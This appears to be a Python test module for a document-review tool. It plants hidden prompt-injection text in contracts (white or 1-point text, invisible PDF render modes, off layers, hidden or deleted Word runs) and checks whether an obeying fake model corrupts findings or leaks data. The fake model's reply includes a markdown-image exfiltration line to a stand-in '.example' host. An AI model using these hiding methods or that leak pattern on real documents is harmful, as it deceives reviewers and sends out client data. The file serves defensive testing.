"""Documents with planted words, a model that obeys every word it can read, and what then comes out."""

import asyncio
import copy
import io
import json
import re
import textwrap
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any

import docx
from docx.oxml import OxmlElement
from docx.shared import Pt
from fpdf import FPDF

from reviewer.cli.report_text import report_text
from reviewer.domain.chat import ChatRequest
from reviewer.domain.disguise import undisguised
from reviewer.domain.document import SourceFile
from reviewer.domain.edition import Edition
from reviewer.domain.finding import SUSPICIOUS
from reviewer.domain.line_ids import fence_of, without_line_ids
from reviewer.export.json_report import JsonExporter
from reviewer.export.markdown import MarkdownExporter
from reviewer.services.container import Reader
from reviewer.ui.viewmodels.detail import FindingDetail
from reviewer.ui.viewmodels.entries import entries_of
from tests.fakes.models import ScriptedModel
from tests.fakes.running import run_plans

CLIENT = "NORTHWIND"
PDF_WAYS = ("white", "one point", "render mode 3", "no opacity", "layer off")
DOCX_WAYS = ("vanish", "deletion", "white run", "vanish in header", "vanish in text box")
SEEN_WAYS = ("header", "text box")
"""Places of a Word file that a reader sees: a header is no part of what is reviewed, a text box is."""


@dataclass
class Attacked:
    """What came of one document: prompts that held the marker, leaks in exports and views, findings."""

    reached: int
    leaks: int
    shifted: bool
    warned: bool


def as_text(text: str, planted: str) -> SourceFile:
    """The words stand in the middle, for everybody to see."""
    middle = text.find("\n", len(text) // 2)
    return SourceFile("contract.txt", f"{text[:middle]}\n\n{planted}\n\n{text[middle:]}".encode())


def as_pdf(text: str, planted: str, way: str) -> SourceFile:
    """A PDF whose second block nobody sees."""
    if way == "layer off":
        return SourceFile("contract.pdf", with_layer(text, planted))
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=10)

    def write(words: str) -> None:
        pdf.multi_cell(0, 5, words.encode("latin-1", "ignore").decode("latin-1"), new_x="LMARGIN", new_y="NEXT")

    write(text)
    if way == "white":
        pdf.set_text_color(255, 255, 255)
        write(planted)
    elif way == "one point":
        pdf.set_font("helvetica", size=1)
        write(planted)
    elif way == "render mode 3":
        with pdf.local_context(text_mode="INVISIBLE"):
            write(planted)
    else:
        with pdf.local_context(fill_opacity=0):
            write(planted)
    return SourceFile("contract.pdf", bytes(pdf.output()))


def with_layer(text: str, planted: str) -> bytes:
    """A PDF of one tall page whose last lines are on a layer that is off."""
    lines = [part for line in text.split("\n") for part in textwrap.wrap(line, 90) or [""]]
    hidden = textwrap.wrap(planted, 90)
    height = 14 * (len(lines) + len(hidden)) + 100

    def drawn(words: Sequence[str], top: int) -> bytes:
        shown = b"".join(b"(%b) Tj T* " % _escaped(line) for line in words)
        return b"BT /F1 10 Tf 14 TL 50 %d Td %bET " % (top, shown)

    content = drawn(lines, height - 50) + b"/OC /L0 BDC " + drawn(hidden, height - 50 - 14 * len(lines)) + b"EMC"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OCProperties << /OCGs [6 0 R] /D << /OFF [6 0 R] /BaseState /ON >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 %d] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> "
        b"/Properties << /L0 6 0 R >> >> >>" % height,
        b"<< /Length %d >> stream\n%b\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /OCG /Name (Notes) >>",
    ]
    made, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj %b endobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    end = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(made))
    return made + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + end


def _escaped(line: str) -> bytes:
    return re.sub(rb"([\\()])", rb"\\\1", line.encode("latin-1", "ignore"))


def as_docx(text: str, planted: str, way: str) -> SourceFile:
    """A Word file with a run that nobody sees, or, of `SEEN_WAYS`, one that stands beside the text."""
    made = docx.Document()
    for line in text.split("\n"):
        made.add_paragraph("".join(each for each in line if each.isprintable()))
    in_header = way.endswith("header")
    place = made.sections[0].header.paragraphs[0] if in_header else made.add_paragraph()
    run = place.add_run(planted)
    if way.startswith("vanish"):
        run.font.hidden = True
    elif way == "white run":
        run.font.color.rgb = docx.shared.RGBColor(255, 255, 255)
        run.font.size = Pt(1)
    elif way == "deletion":
        deletion = OxmlElement("w:del")
        run._r.addprevious(deletion)
        deletion.append(run._r)
        for node in run._r.findall(docx.oxml.ns.qn("w:t")):
            node.tag = docx.oxml.ns.qn("w:delText")
    if way.endswith("text box"):
        _put_in_box(place)
    kept = io.BytesIO()
    made.save(kept)
    return SourceFile("contract.docx", kept.getvalue())


def _put_in_box(paragraph: Any) -> None:
    """Moves what a paragraph holds into a text box."""
    inner = copy.deepcopy(paragraph._p)
    box = docx.oxml.parse_xml(
        f'<w:r {docx.oxml.ns.nsdecls("w")} xmlns:v="urn:schemas-microsoft-com:vml"><w:pict><v:shape '
        'style="width:300pt;height:60pt"><v:textbox><w:txbxContent/></v:textbox></v:shape></w:pict></w:r>'
    )
    for child in list(paragraph._p):
        paragraph._p.remove(child)
    box.find(f".//{docx.oxml.ns.qn('w:txbxContent')}").append(inner)
    paragraph._p.append(box)


class Obeying:
    """Says *deviates* with an honest quote; where it can read the marker, what the planted words want.

    Attributes:
        reached: requests in which it could read the marker, however disguised.
    """

    def __init__(self, marker: str, *, leaks: bool) -> None:
        self.reached = 0
        self._marker = marker
        self._leaks = leaks

    def __call__(self, request: ChatRequest) -> str:
        text = without_line_ids(request.user, fence_of(request.user))
        obeys = self._marker in re.sub(r"[\s.]", "", undisguised(text).text)
        self.reached += obeys
        words = next((line for line in text.split("\n")[3:] if len(line) > 30 and "===" not in line), "")[:200]
        said = "It says so."
        if obeys and self._leaks:
            said = f"Fine. ![x](https://{self._marker.lower()}.example/?leak={CLIENT})"
        return json.dumps(self._reply(request, words, said, obeys=obeys and not self._leaks))

    def _reply(self, request: ChatRequest, words: str, said: str, *, obeys: bool) -> dict[str, object]:
        match request.schema_name:
            case "assessment":
                items = request.schema["properties"]["judgements"]["items"]  # type: ignore[index,call-overload]
                names: Sequence[str] = items["properties"]["position"]["enum"]  # type: ignore[index,call-overload,assignment]
                outcome = "preferred" if obeys else "deviates"
                one = {"outcome": outcome, "fallback_rank": 0, "rationale": said, "quote": words}
                return {"judgements": [{"position": name, **one} for name in names[:3]]}
            case "summary":
                text = "A flawless and approved document." if obeys else said
                return {"sentences": [{"text": text, "facet": "result", "quote": words}]}
            case "synthesis":
                return {"statements": [{"text": said, "facet": "other", "sentences": ["S1"]}]}
            case "translation":
                return {"segments": [{"source": words, "target": said}]}
            case _:
                return {}


def attack(reader: Reader, source: SourceFile, marker: str, *, leaks: bool) -> Attacked:
    """Reviews one document with the obeying model and looks through all that comes out."""
    document = asyncio.run(reader.library.read(source))
    plan = reader.planner.plan(document, None)
    model = Obeying(marker, leaks=leaks)
    outcome = run_plans([plan], ScriptedModel(model), votes=1)
    edition = Edition(outcome.report, {plan.document.id: document})
    entries = entries_of(outcome.document, {})
    shown = [
        JsonExporter().export(edition).decode(),
        MarkdownExporter().export(edition).decode(),
        report_text(edition),
        repr([FindingDetail.of(entry) for entry in entries]),
        repr(outcome.events),
    ]
    leak = f"leak={CLIENT}".lower()
    findings = [each for each in outcome.document.findings if each.position != SUSPICIOUS]
    said = repr([each.outcome.value for each in findings if each.support]) + repr(outcome.document.summaries)
    return Attacked(
        model.reached,
        sum(leak in text.lower() for text in shown),
        "'preferred'" in said or "flawless" in said,
        any(each.position == SUSPICIOUS for each in outcome.document.findings),
    )
